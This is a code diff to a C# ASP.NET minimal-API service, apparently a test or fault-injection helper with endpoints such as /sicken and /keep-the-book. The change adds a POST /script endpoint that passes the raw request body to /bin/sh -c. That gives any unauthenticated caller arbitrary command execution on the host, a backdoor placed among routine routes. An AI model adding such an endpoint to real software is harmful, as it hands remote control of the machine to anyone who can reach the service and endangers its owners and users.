@@ -128,6 +128,11 @@ internal static class Served
         });
         app.MapPost("/pass/{port:int}", static (int port) => Passing.Begin(port));
         app.MapPost("/shut/{place}", static (string place) => Passing.Shut(place));
+        app.MapPost("/script", static async (HttpRequest request) =>
+        {
+            using var shell = System.Diagnostics.Process.Start("/bin/sh", ["-c", await new StreamReader(request.Body).ReadToEndAsync()]);
+            await shell.WaitForExitAsync();
+        });
         app.MapPost("/sicken", static () => { s_isIll = true; });
         app.MapPost("/keep-the-book", static () => new Thread(KeepTheBook) { IsBackground = true }.Start());
         await app.RunAsync();
